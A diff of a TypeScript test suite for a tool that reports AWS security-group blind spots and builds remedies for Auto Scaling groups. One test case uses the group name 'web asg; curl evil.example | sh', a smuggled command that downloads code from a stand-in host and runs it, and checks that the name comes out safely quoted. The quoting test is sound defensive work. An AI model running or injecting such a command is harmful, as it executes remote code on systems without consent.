@@ -73,11 +73,13 @@ describe('what security groups cannot take away', () => {
     expect(named(standingRisks(quiet))).toEqual(['resolver-dns']);
   });
 
+  // threat A2
   it('is ICMP while the host runs: AWS tracks it whatever the rules', () => {
     expect(named(standingRisks(instanceWith()))).toContain('icmp-tracked');
     expect(named(standingRisks(instanceWith({ state: 'stopped' })))).not.toContain('icmp-tracked');
   });
 
+  // threat A6
   it('is the trail, which the host reads where tags are in the metadata', () => {
     const risk = standingRisks(instanceWith({ metadataTags: true })).find(
       (one) => one.risk === 'trail-readable-from-host',
@@ -124,6 +126,7 @@ describe('an Auto Scaling group that was kept from terminating', () => {
   const remedyFor = (groupName: string, own: readonly string[] = ['Terminate']) =>
     groupSuspended(groupName, ['ReplaceUnhealthy', 'Terminate'], own, ['refused']).remedy;
 
+  // threat D9
   it.each([
     ['web-asg', 'web-asg'],
     ['web asg; curl evil.example | sh', "'web asg; curl evil.example | sh'"],
